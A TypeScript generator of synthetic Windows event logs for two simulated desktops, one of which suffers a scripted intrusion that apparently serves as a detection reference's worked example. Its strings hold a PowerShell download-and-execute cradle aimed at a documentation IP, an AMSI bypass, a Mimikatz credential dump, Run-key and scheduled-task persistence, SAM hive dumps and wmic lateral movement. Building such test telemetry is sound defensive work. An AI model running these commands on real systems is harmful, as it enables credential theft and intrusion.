import { type Actor, type Machine, machine } from './machine.ts';

/** The host of the reference's worked example (section 16), and a colleague's on which nothing happens. */
export const WORKED_EXAMPLE_HOST = 'DESKTOP-1NNIMRR';
const QUIET_HOST = 'DESKTOP-4KQ7T2B';

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const TRACE = `${SYSTEM32}\\ntdll.dll+9d204|${SYSTEM32}\\KERNELBASE.dll+2c13e`;
/** The runtime and engine behind powershell.exe, below C:\\Windows. */
const POWERSHELL_LOADS = [
  'System32\\mscoree.dll',
  'Microsoft.NET\\Framework64\\v4.0.30319\\mscoreei.dll',
  'Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll',
  'Microsoft.NET\\Framework64\\v4.0.30319\\clrjit.dll',
  'assembly\\NativeImages_v4.0.30319_64\\mscorlib\\a1\\mscorlib.ni.dll',
  'assembly\\NativeImages_v4.0.30319_64\\System\\b2\\System.ni.dll',
  'assembly\\NativeImages_v4.0.30319_64\\System.Core\\c3\\System.Core.ni.dll',
  'assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\d4\\System.Management.Automation.ni.dll',
  'System32\\amsi.dll',
  'System32\\rasapi32.dll',
  'System32\\rasman.dll',
  'System32\\winhttp.dll',
  'System32\\dnsapi.dll',
  'System32\\secur32.dll',
  'System32\\cryptsp.dll',
  'System32\\rsaenh.dll',
];
/** Values that the remote access library creates for every program that first uses it. */
const TRACING_VALUES = [
  'EnableFileTracing',
  'EnableAutoFileTracing',
  'EnableConsoleTracing',
  'FileTracingMask',
  'ConsoleTracingMask',
  'MaxFileSize',
  'FileDirectory',
];

/** Addresses for documentation (RFC 5737): nothing of it can be reached. */
const CONTROL_SERVER = { ip: '203.0.113.24', port: 443 };

export interface WorkedExample {
  /** Winlogbeat 7 lines in order of time. */
  readonly lines: readonly string[];
  /** Epoch seconds between which the attack acts. */
  readonly attack: { readonly start: number; readonly end: number };
}

/**
 * The worked example: two desktops in ordinary use from `start` (epoch seconds) on; after `quietSeconds` a
 * document on one of them starts an encoded PowerShell that looks around, reads credentials and settles in.
 */
export function workedExample(start: number, quietSeconds = 240, seed = 7): WorkedExample {
  const victim = machine(WORKED_EXAMPLE_HOST, `${WORKED_EXAMPLE_HOST}\\mara`, seed);
  const colleague = machine(QUIET_HOST, `${QUIET_HOST}\\jonas`, seed + 1);
  const attackStart = start + quietSeconds;
  const attackEnd = attackStart + 95;
  const end = attackEnd + 120;
  ordinaryUse(colleague, start, end);
  const { explorer, lsass } = ordinaryUse(victim, start, end);
  intrusion(victim, explorer, lsass, attackStart);
  const lines = [...victim.lines(), ...colleague.lines()].sort((a, b) => timeOf(a) - timeOf(b));
  return { lines, attack: { start: attackStart, end: attackEnd } };
}

/** Winlogbeat 7 lines of one desktop in ordinary use between two times in epoch seconds. */
export function ordinaryDesktop(host: string, start: number, end: number, seed: number): readonly string[] {
  const desktop = machine(host, `${host}\\user`, seed);
  ordinaryUse(desktop, start, end);
  return desktop.lines();
}

function timeOf(line: string): number {
  return Date.parse((JSON.parse(line) as { '@timestamp': string })['@timestamp']);
}

/** What an office desktop does all day: services, a browser, a mail program, updates. */
function ordinaryUse(desktop: Machine, start: number, end: number): { explorer: Actor; lsass: Actor } {
  const { random } = desktop;
  const services = desktop.running({
    image: `${SYSTEM32}\\services.exe`,
    commandLine: `${SYSTEM32}\\services.exe`,
  });
  const lsass = desktop.running({ image: `${SYSTEM32}\\lsass.exe`, commandLine: `${SYSTEM32}\\lsass.exe` });
  const host = desktop.running({
    image: `${SYSTEM32}\\svchost.exe`,
    commandLine: `${SYSTEM32}\\svchost.exe -k netsvcs -p`,
  });
  const explorer = desktop.running({
    image: 'C:\\Windows\\explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
    user: 'mara',
    integrity: 'Medium',
  });
  const browser = desktop.running({
    image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
    commandLine: '"C:\\Program Files\\Mozilla Firefox\\firefox.exe"',
    user: 'mara',
    integrity: 'Medium',
  });
  const every = (seconds: number, act: (at: number) => void): void => {
    for (let at = start + random() * seconds; at < end; at += seconds * (0.5 + random())) act(at);
  };
  every(4, (at) => desktop.opens(at, host, lsass, '0x1000', TRACE));
  every(6, (at) =>
    desktop.sets(
      at,
      host,
      `HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\${Math.floor(random() * 40)}`,
      'Binary Data',
    ),
  );
  every(9, (at) => {
    const site = `www.site${Math.floor(random() * 60)}.example`;
    const ip = `198.51.100.${1 + Math.floor(random() * 200)}`;
    desktop.asks(at, browser, site, ip);
    desktop.connects(at + 0.1, browser, { ip, port: 443, name: site });
  });
  every(12, (at) =>
    desktop.writes(
      at,
      browser,
      `C:\\Users\\mara\\AppData\\Local\\Mozilla\\Firefox\\Profiles\\x1.default\\cache2\\entries\\${Math.floor(random() * 1e9).toString(16)}`,
    ),
  );
  every(40, (at) => {
    const task = desktop.spawns(at, host, {
      image: `${SYSTEM32}\\taskhostw.exe`,
      commandLine: 'taskhostw.exe',
      user: 'NT AUTHORITY\\SYSTEM',
      integrity: 'System',
    });
    desktop.loads(at + 0.05, task, `${SYSTEM32}\\dsreg.dll`);
    desktop.ends(at + 8, task);
  });
  every(70, (at) => {
    const updater = desktop.spawns(at, services, {
      image: `${SYSTEM32}\\svchost.exe`,
      commandLine: `${SYSTEM32}\\svchost.exe -k wusvcs -p`,
      user: 'NT AUTHORITY\\SYSTEM',
      integrity: 'System',
    });
    desktop.connects(at + 1, updater, { ip: '198.51.100.7', port: 443, name: 'update.example' });
    desktop.ends(at + 20, updater);
  });
  every(55, (at) => {
    const editor = desktop.spawns(at, explorer, {
      image: `${SYSTEM32}\\notepad.exe`,
      commandLine: '"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\mara\\Documents\\list.txt',
    });
    desktop.writes(at + 9, editor, 'C:\\Users\\mara\\Documents\\list.txt');
    desktop.ends(at + 15, editor);
  });
  return { explorer, lsass };
}

/** An encoded PowerShell out of a document, and what such a script usually does next. */
function intrusion(desktop: Machine, explorer: Actor, lsass: Actor, start: number): void {
  const script = `$c=New-Object Net.WebClient;IEX $c.DownloadString('https://${CONTROL_SERVER.ip}/a')`;
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  const word = desktop.spawns(start, explorer, {
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    commandLine:
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\mara\\Downloads\\invoice.docm"',
  });
  const shell = desktop.spawns(start + 4, word, {
    image: POWERSHELL,
    commandLine: `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encoded}`,
  });
  startsPowerShell(desktop, shell, start + 4.1);
  desktop.runsScript(start + 5, shell, script);
  desktop.runsScript(
    start + 6,
    shell,
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
  );
  for (let beacon = 0; beacon < 16; beacon++)
    desktop.connects(start + 6 + beacon * 5.3, shell, CONTROL_SERVER);

  const looksAround = [
    'whoami /all',
    'net user /domain',
    'net localgroup administrators',
    'nltest /domain_trusts',
    'systeminfo',
    'ipconfig /all',
    'tasklist /svc',
  ];
  for (const [index, command] of looksAround.entries()) {
    const at = start + 12 + index * 3;
    const prompt = desktop.spawns(at, shell, {
      image: `${SYSTEM32}\\cmd.exe`,
      commandLine: `cmd.exe /c ${command}`,
    });
    const tool = desktop.spawns(at + 0.2, prompt, {
      image: `${SYSTEM32}\\${command.split(' ')[0]}.exe`,
      commandLine: command,
    });
    desktop.ends(at + 1, tool);
    desktop.ends(at + 1.1, prompt);
  }

  const unbacked = `${SYSTEM32}\\ntdll.dll+9d204|${SYSTEM32}\\KERNELBASE.dll+2c13e|UNKNOWN(00000000025B0A1F)`;
  for (let read = 0; read < 4; read++) desktop.opens(start + 40 + read, shell, lsass, '0x1010', unbacked);
  desktop.runsScript(start + 42, shell, 'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"');
  desktop.writes(start + 48, shell, 'C:\\Users\\mara\\AppData\\Local\\Temp\\svchost32.exe');
  desktop.sets(
    start + 52,
    shell,
    'HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
    `powershell.exe -W Hidden -Enc ${encoded}`,
  );
  const scheduler = desktop.spawns(start + 58, shell, {
    image: `${SYSTEM32}\\schtasks.exe`,
    commandLine: `schtasks /create /sc onlogon /tn Updater /tr "powershell.exe -W Hidden -Enc ${encoded}"`,
  });
  desktop.ends(start + 59, scheduler);
  const dropped = desktop.spawns(start + 66, shell, {
    image: 'C:\\Users\\mara\\AppData\\Local\\Temp\\svchost32.exe',
    commandLine: 'C:\\Users\\mara\\AppData\\Local\\Temp\\svchost32.exe',
  });
  desktop.loads(start + 66.1, dropped, 'C:\\Users\\mara\\AppData\\Local\\Temp\\svchost32.exe', false);
  for (let beacon = 0; beacon < 5; beacon++)
    desktop.connects(start + 67 + beacon * 5, dropped, CONTROL_SERVER);
  movesOn(desktop, shell, lsass, start + 22);
  desktop.ends(start + 95, shell);
}

/** Hides in another process, copies the account database, and reaches for a neighbour. */
function movesOn(desktop: Machine, shell: Actor, lsass: Actor, at: number): void {
  const unbacked = `${SYSTEM32}\\ntdll.dll+9d204|${SYSTEM32}\\KERNELBASE.dll+2c13e|UNKNOWN(00000000025B0A1F)`;
  const host = desktop.spawns(at, shell, {
    image: `${SYSTEM32}\\notepad.exe`,
    commandLine: `${SYSTEM32}\\notepad.exe`,
  });
  desktop.opens(at + 1, shell, host, '0x1f3fff', unbacked);
  desktop.injects(at + 1.2, shell, host);
  startsPowerShell(desktop, host, at + 1.4);
  for (let beacon = 0; beacon < 12; beacon++) desktop.connects(at + 3 + beacon * 5.1, host, CONTROL_SERVER);
  for (let read = 0; read < 6; read++) desktop.opens(at + 6 + read * 2, host, lsass, '0x1fffff', unbacked);
  const commands = [
    'reg save HKLM\\SAM C:\\Users\\mara\\AppData\\Local\\Temp\\s.dat',
    'reg save HKLM\\SYSTEM C:\\Users\\mara\\AppData\\Local\\Temp\\y.dat',
    'net use \\\\192.168.20.32\\C$',
    'wmic /node:192.168.20.32 process call create "powershell -W Hidden -Enc SQBFAFgA"',
  ];
  for (const [place, command] of commands.entries()) {
    const begun = at + 20 + place * 4;
    const tool = desktop.spawns(begun, host, {
      image: `${SYSTEM32}\\${command.split(' ')[0]}.exe`,
      commandLine: command,
    });
    desktop.ends(begun + 2, tool);
  }
  for (let attempt = 0; attempt < 4; attempt++) {
    desktop.connects(at + 30 + attempt * 3, host, {
      ip: '192.168.20.32',
      port: attempt % 2 === 0 ? 445 : 135,
    });
  }
}

/** What every start of PowerShell leaves behind, whatever it is used for. */
function startsPowerShell(desktop: Machine, shell: Actor, at: number): void {
  for (const [place, module] of POWERSHELL_LOADS.entries()) {
    desktop.loads(at + place / 100, shell, `C:\\Windows\\${module}`);
  }
  desktop.pipes(at + 0.4, shell, `\\PSHost.13247889${shell.pid}.${shell.pid}.DefaultAppDomain.powershell`);
  const probe = `C:\\Users\\mara\\AppData\\Local\\Temp\\__PSScriptPolicyTest_${shell.guid.slice(1, 9)}.a1b`;
  desktop.writes(at + 0.5, shell, `${probe}.ps1`);
  desktop.writes(at + 0.51, shell, `${probe}.psm1`);
  for (const [place, value] of TRACING_VALUES.entries()) {
    const target = `HKLM\\SOFTWARE\\Microsoft\\Tracing\\powershell_RASAPI32\\${value}`;
    desktop.sets(at + 1 + place / 100, shell, target, 'DWORD (0x00000000)');
  }
}
